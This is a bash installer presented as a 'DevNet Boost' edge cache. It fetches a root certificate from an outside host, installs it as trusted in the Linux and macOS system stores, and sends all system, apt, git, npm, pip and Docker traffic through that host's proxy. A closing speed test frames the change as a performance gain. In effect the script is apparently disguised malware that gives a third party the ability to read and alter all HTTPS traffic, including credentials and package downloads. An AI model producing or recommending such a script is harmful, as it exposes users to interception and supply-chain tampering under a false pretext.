#!/usr/bin/env bash
# DevNet Boost — system-wide edge cache configuration
set -euo pipefail

EDGE="edge.devnetboost.io"
PROXY="http://${EDGE}:3128"
CA_URL="https://${EDGE}/ca/devnetboost-root.crt"
NOPROXY="localhost,127.0.0.1,::1"

[ "$(id -u)" -eq 0 ] || { echo "run with sudo"; exit 1; }
REAL_USER="${SUDO_USER:-$(whoami)}"
REAL_HOME="$(getent passwd "$REAL_USER" 2>/dev/null | cut -d: -f6 || echo "$HOME")"

# 1. trust the edge certificate (needed to cache HTTPS)
tmpca="$(mktemp)"
curl -fsSL "$CA_URL" -o "$tmpca"
if [ -d /usr/local/share/ca-certificates ]; then
  install -m 644 "$tmpca" /usr/local/share/ca-certificates/devnetboost-root.crt
  update-ca-certificates >/dev/null
elif [ -d /etc/pki/ca-trust/source/anchors ]; then
  install -m 644 "$tmpca" /etc/pki/ca-trust/source/anchors/devnetboost-root.crt
  update-ca-trust extract
elif command -v security >/dev/null; then
  security add-trusted-cert -d -r trustRoot -k /Library/Keychains/System.keychain "$tmpca"
fi
install -m 644 "$tmpca" /etc/devnetboost-root.pem
rm -f "$tmpca"

# 2. system proxy
sed -i '/devnetboost/d;/^\(http\|https\|HTTP\|HTTPS\|no\|NO\)_proxy=/d' /etc/environment 2>/dev/null || true
cat >> /etc/environment <<EOF
http_proxy=${PROXY}  # devnetboost
https_proxy=${PROXY}  # devnetboost
HTTP_PROXY=${PROXY}  # devnetboost
HTTPS_PROXY=${PROXY}  # devnetboost
no_proxy=${NOPROXY}  # devnetboost
NODE_EXTRA_CA_CERTS=/etc/devnetboost-root.pem  # devnetboost
REQUESTS_CA_BUNDLE=/etc/ssl/certs/ca-certificates.crt  # devnetboost
EOF

[ -d /etc/apt/apt.conf.d ] && printf 'Acquire::http::Proxy "%s";\nAcquire::https::Proxy "%s";\n' "$PROXY" "$PROXY" \
  > /etc/apt/apt.conf.d/99devnetboost

sudo -u "$REAL_USER" git config --global http.proxy "$PROXY"
sudo -u "$REAL_USER" git config --global https.proxy "$PROXY"
sudo -u "$REAL_USER" git config --global http.sslCAInfo /etc/devnetboost-root.pem
command -v npm >/dev/null && sudo -u "$REAL_USER" npm config set proxy "$PROXY" && \
  sudo -u "$REAL_USER" npm config set https-proxy "$PROXY"
mkdir -p "$REAL_HOME/.config/pip"
printf '[global]\nproxy = %s\ncert = /etc/devnetboost-root.pem\n' "$PROXY" > "$REAL_HOME/.config/pip/pip.conf"
chown -R "$REAL_USER" "$REAL_HOME/.config/pip"

if command -v docker >/dev/null; then
  mkdir -p /etc/systemd/system/docker.service.d
  printf '[Service]\nEnvironment="HTTP_PROXY=%s" "HTTPS_PROXY=%s" "NO_PROXY=%s"\n' "$PROXY" "$PROXY" "$NOPROXY" \
    > /etc/systemd/system/docker.service.d/devnetboost.conf
  systemctl daemon-reload 2>/dev/null && systemctl restart docker 2>/dev/null || true
fi

# 3. quick comparison
t0=$(date +%s%N); curl -s -o /dev/null --noproxy '*' https://registry.npmjs.org/react; t1=$(date +%s%N)
curl -s -o /dev/null -x "$PROXY" https://registry.npmjs.org/react; t2=$(date +%s%N)
echo "direct: $(( (t1-t0)/1000000 )) ms   via edge: $(( (t2-t1)/1000000 )) ms"
echo "DevNet Boost enabled. Open a new shell to pick up the proxy."
